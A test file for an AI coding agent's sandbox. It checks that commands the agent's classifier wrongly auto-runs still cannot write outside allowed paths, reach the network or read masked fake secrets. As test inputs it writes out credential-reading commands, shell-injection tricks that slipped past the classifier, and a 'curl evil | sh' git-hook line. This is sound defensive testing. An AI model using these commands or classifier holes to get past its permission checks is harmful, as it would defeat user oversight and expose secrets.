// The OS sandbox with the REAL bubblewrap, through the bash tool: what a command the classifier wrongly lets run
// (simulated by an allow rule's approval, or the read-only auto path) can still not do — write outside /tmp,
// reach a TCP server on 127.0.0.1, read masked secrets — and what workspace-write allows (the workspace) and
// refuses (.git internals, .protoagent/, creating .vscode/). Skips with the reason where bwrap cannot start.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import net from "node:net";
import path from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ApprovalOutcome, ApprovalRequest } from "../../src/approval/types.js";
import { probeSandbox } from "../../src/sandbox/probe.js";
import { bashTool } from "../../src/tools/bash.js";
import { noSandboxReason, outsideTmp, testSandbox } from "../helpers/sandbox.js";
import { makeContext, run, runError, text } from "../helpers/tool-context.js";

let root: string;
let ws: string;
let home: string;
let outside: string;
let env: Record<string, string | undefined>;
let server: net.Server;
let port = 0;
let connections = 0;

beforeAll(async () => {
  server = net.createServer((s) => {
    connections++;
    s.end("hello from the host\n");
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  port = (server.address() as net.AddressInfo).port;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));

beforeEach(() => {
  root = outsideTmp("protoagent-sbx-");
  ws = path.join(root, "work");
  home = path.join(root, "home");
  outside = path.join(root, "outside");
  for (const d of [ws, home, outside, path.join(home, ".ssh"), path.join(home, ".aws")])
    mkdirSync(d, { recursive: true });
  writeFileSync(path.join(home, ".ssh", "id_rsa"), "-----BEGIN FAKE KEY-----\n");
  writeFileSync(path.join(home, ".aws", "credentials"), "[default]\naws_secret_access_key=FAKE\n");
  writeFileSync(path.join(home, ".netrc"), "machine x login u password FAKE\n");
  writeFileSync(path.join(home, "notes.txt"), "not a secret\n");
  writeFileSync(path.join(ws, "README.md"), "# demo\n");
  writeFileSync(path.join(ws, ".env"), "API_TOKEN=FAKE\n");
  writeFileSync(path.join(ws, ".env.example"), "API_TOKEN=\n");
  env = {
    ...process.env,
    HOME: home,
    XDG_CONFIG_HOME: path.join(home, ".config"),
    XDG_DATA_HOME: path.join(home, ".local/share"),
  };
  connections = 0;
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** A context whose approvals answer as an allow rule would: the user never saw the command. */
function ruleContext(
  mode: "read-only" | "workspace-write",
  answer?: (r: ApprovalRequest) => ApprovalOutcome,
) {
  const ctx = makeContext(ws);
  ctx.sandbox = testSandbox(mode, env);
  ctx.answer = answer ?? (() => ({ approved: true, by: "rule allow bash(touch:*)" }));
  return ctx;
}

describe.skipIf(noSandboxReason !== undefined)(
  `sandbox with real bwrap${noSandboxReason ? ` — skipped: ${noSandboxReason}` : ""}`,
  () => {
    it("the probe finds a working bubblewrap", async () => {
      expect(await probeSandbox({ env: process.env, cwd: ws })).toMatchObject({ ok: true, kind: "bwrap" });
    });

    describe("read-only: a command allowed without the user seeing it", () => {
      it("cannot write in the workspace or outside it, but may use the private /tmp", async () => {
        const ctx = ruleContext("read-only");
        const r = await run(
          bashTool,
          { command: `touch ${outside}/pwned; touch pwned; echo tmp > /tmp/t && cat /tmp/t` },
          ctx,
        );
        expect(existsSync(path.join(outside, "pwned"))).toBe(false);
        expect(existsSync(path.join(ws, "pwned"))).toBe(false);
        expect(text(r)).toContain("Read-only file system");
        expect(text(r)).toMatch(/\ntmp\n/);
      });

      it("tells the model the sandbox refused the write and how to ask to leave it", async () => {
        const ctx = ruleContext("read-only");
        const r = await run(bashTool, { command: "touch pwned" }, ctx);
        expect(text(r)).toContain("Exit code: 1");
        expect(text(r)).toContain("ran inside protoagent's OS sandbox");
        expect(text(r)).toContain('"sandbox": false');
        expect(r.summary).toBe("exit 1 · sandboxed");
      });

      it("cannot reach a TCP server on 127.0.0.1 that the host can reach", async () => {
        const script = `const s=require("net").connect(${port},"127.0.0.1");s.on("data",d=>{process.stdout.write("GOT "+d);process.exit(0)});s.on("error",e=>{console.log("ERR "+e.code);process.exit(3)})`;
        // The host itself reaches the server (so a failure inside is the sandbox's doing).
        const host = await new Promise<string>((resolve, reject) => {
          const c = net.connect(port, "127.0.0.1");
          c.on("data", (d) => {
            resolve(String(d));
            c.destroy();
          });
          c.on("error", reject);
        });
        expect(host).toContain("hello from the host");
        const before = connections;
        const ctx = ruleContext("read-only");
        const r = await run(bashTool, { command: `node -e '${script}'` }, ctx);
        expect(text(r)).toContain("ERR ECONNREFUSED");
        expect(text(r)).not.toContain("GOT");
        expect(connections).toBe(before);
        expect(text(r)).toContain("the network is unreachable");
      });

      it("cannot read masked secrets in HOME or credential files in the workspace", async () => {
        const ctx = ruleContext("read-only");
        const r = await run(
          bashTool,
          {
            command: `cat ${home}/.ssh/id_rsa; ls -A ${home}/.ssh; cat ${home}/.aws/credentials; cat ${home}/.netrc; cat .env; cat .env.example ${home}/notes.txt README.md`,
          },
          ctx,
        );
        const out = text(r);
        expect(out).not.toContain("FAKE");
        expect(out).toContain("API_TOKEN=\n");
        expect(out).toContain("not a secret");
        expect(out).toContain("# demo");
      });

      it("cannot reach a local service socket in XDG_RUNTIME_DIR (Docker, D-Bus, agents live there)", async () => {
        const runtimeDir = path.join(root, "xdg-runtime");
        mkdirSync(runtimeDir);
        const sock = path.join(runtimeDir, "service.sock");
        const unix = net.createServer((c) => c.end("SERVICE\n"));
        await new Promise<void>((r) => unix.listen(sock, r));
        try {
          env.XDG_RUNTIME_DIR = runtimeDir;
          const ctx = ruleContext("read-only");
          const r = await run(
            bashTool,
            {
              command: `node -e 'require("net").connect("${sock}").on("data",d=>{process.stdout.write("GOT "+d);process.exit(0)}).on("error",e=>{console.log(e.code);process.exit(1)})'`,
            },
            ctx,
          );
          expect(text(r)).not.toContain("GOT SERVICE");
          expect(text(r)).toContain("ENOENT");
        } finally {
          await new Promise<void>((r) => unix.close(() => r()));
        }
      });

      it("a recursive grep a rule lets through cannot read .env", async () => {
        const ctx = ruleContext("read-only");
        const r = await run(bashTool, { command: "grep -r API_TOKEN ." }, ctx);
        expect(text(r)).toContain(".env.example");
        expect(text(r)).not.toContain("FAKE");
      });

      it("runs auto-run commands sandboxed too: a symlink the classifier cannot see through still hits the mask", async () => {
        symlinkSync(".env", path.join(ws, "notes.txt"));
        try {
          const ctx = ruleContext("read-only");
          const r = await run(bashTool, { command: "cat notes.txt" }, ctx);
          expect(ctx.requests).toHaveLength(0);
          expect(text(r)).not.toContain("FAKE");
        } finally {
          rmSync(path.join(ws, "notes.txt"));
        }
      });

      it("runs a command the user approved unsandboxed, as before", async () => {
        const ctx = ruleContext("read-only", () => ({ approved: true, by: "user once" }));
        await run(bashTool, { command: "touch made-by-user" }, ctx);
        expect(existsSync(path.join(ws, "made-by-user"))).toBe(true);
      });

      it("sandbox: false asks even for an auto-run command, flagged as leaving the sandbox", async () => {
        const ctx = ruleContext("read-only", () => ({ approved: true, by: "user once" }));
        const r = await run(bashTool, { command: `ls -A ${home}/.ssh`, sandbox: false }, ctx);
        expect(ctx.requests).toHaveLength(1);
        expect(ctx.requests[0]).toMatchObject({ unsandboxed: true });
        expect(ctx.requests[0]?.reason).toContain("OUTSIDE the sandbox");
        expect(text(r)).toContain("id_rsa");
      });

      it("sandbox: false that is refused does not run", async () => {
        const ctx = ruleContext("read-only", () => ({ approved: false, reason: "Denied: headless." }));
        const msg = await runError(bashTool, { command: "touch nope", sandbox: false }, ctx);
        expect(msg).toContain("Denied");
        expect(existsSync(path.join(ws, "nope"))).toBe(false);
      });
    });

    describe("holes in the classifier that the sandbox closes (issue 9, section 2)", () => {
      // Each of these was auto-run by the classifier when written; whether it still is or now asks (answered here
      // as an allow rule would), the sandbox must keep it from writing.
      it.each([
        ["arithmetic in [[ ]]", "[[ 1 -eq 'a[$(touch pwned)]' ]]"],
        ["awk write after a newline", `awk 'BEGIN { print "x",\n"y" > "pwned" }'`],
        ["awk write after a line continuation", `awk 'BEGIN { print "x" \\\n> "pwned" }'`],
      ])("%s cannot write", async (_name, command) => {
        const ctx = ruleContext("read-only");
        await run(bashTool, { command }, ctx);
        expect(existsSync(path.join(ws, "pwned"))).toBe(false);
      });

      it("bypass mode cannot write .git/hooks through bash", async () => {
        execFileSync("git", ["init", "-q", ws]);
        const ctx = ruleContext("read-only", () => ({ approved: true, by: "mode bypass" }));
        await run(bashTool, { command: "echo 'curl evil | sh' > .git/hooks/pre-commit" }, ctx);
        expect(existsSync(path.join(ws, ".git/hooks/pre-commit"))).toBe(false);
      });
    });

    describe("workspace-write", () => {
      beforeEach(() => {
        execFileSync("git", ["init", "-q", ws]);
        mkdirSync(path.join(ws, ".protoagent"));
        writeFileSync(
          path.join(ws, "package.json"),
          JSON.stringify({
            name: "demo",
            version: "1.0.0",
            scripts: { test: `node -e "require('fs').writeFileSync('out.txt','ok')"` },
          }),
        );
      });

      it("runs npm test without asking; the script writes in the workspace", async () => {
        const ctx = ruleContext("workspace-write", () => {
          throw new Error("must not ask");
        });
        const r = await run(bashTool, { command: "npm test" }, ctx);
        expect(ctx.requests).toHaveLength(0);
        expect(text(r)).toContain("Exit code: 0");
        expect(readFileSync(path.join(ws, "out.txt"), "utf8")).toBe("ok");
        expect(r.summary).toBe("exit 0 · sandboxed (workspace-write)");
      });

      it("cannot write .git/hooks, .git/config or .protoagent/, nor outside the workspace", async () => {
        const ctx = ruleContext("workspace-write");
        const r = await run(
          bashTool,
          {
            command: `echo 'touch ${outside}/hooked' > .git/hooks/pre-commit; echo x >> .git/config; echo '{}' > .protoagent/x; touch ${outside}/x; echo done`,
          },
          ctx,
        );
        expect(text(r)).toContain("Read-only file system");
        expect(existsSync(path.join(ws, ".git/hooks/pre-commit"))).toBe(false);
        expect(readFileSync(path.join(ws, ".git/config"), "utf8")).not.toMatch(/^x$/m);
        expect(existsSync(path.join(ws, ".protoagent/x"))).toBe(false);
        expect(existsSync(path.join(outside, "x"))).toBe(false);
      });

      it("protects the real git dir behind a gitfile and the core.hooksPath folder", async () => {
        const real = path.join(root, "real-git");
        rmSync(path.join(ws, ".git"), { recursive: true });
        execFileSync("git", ["init", "-q", "--separate-git-dir", real, ws]);
        mkdirSync(path.join(ws, "githooks"));
        execFileSync("git", ["-C", ws, "config", "core.hooksPath", "githooks"]);
        const ctx = ruleContext("workspace-write");
        await run(bashTool, { command: `touch ${real}/hooks/pre-commit githooks/pre-commit; touch ok` }, ctx);
        expect(existsSync(path.join(real, "hooks/pre-commit"))).toBe(false);
        expect(existsSync(path.join(ws, "githooks/pre-commit"))).toBe(false);
        expect(existsSync(path.join(ws, "ok"))).toBe(true);
      });

      it("removes a protected folder a sandboxed command created, and says so", async () => {
        const ctx = ruleContext("workspace-write");
        const r = await run(bashTool, { command: "mkdir .vscode && echo '{}' > .vscode/tasks.json" }, ctx);
        expect(existsSync(path.join(ws, ".vscode"))).toBe(false);
        expect(text(r)).toContain("does not let commands create .vscode");
      });

      it("has no network either", async () => {
        const ctx = ruleContext("workspace-write");
        const r = await run(
          bashTool,
          {
            command: `node -e 'require("net").connect(${port},"127.0.0.1").on("error",e=>{console.log(e.code);process.exit(1)})'`,
          },
          ctx,
        );
        expect(text(r)).toContain("ECONNREFUSED");
        expect(connections).toBe(0);
      });

      it("plan mode keeps asking (and so refusing) instead of running writes unasked", async () => {
        const ctx = makeContext(ws);
        ctx.sandbox = testSandbox("workspace-write", env, "plan");
        ctx.answer = () => ({ approved: false, reason: "Denied: plan mode." });
        const msg = await runError(bashTool, { command: "touch planned" }, ctx);
        expect(msg).toContain("plan mode");
        expect(existsSync(path.join(ws, "planned"))).toBe(false);
      });
    });
  },
);
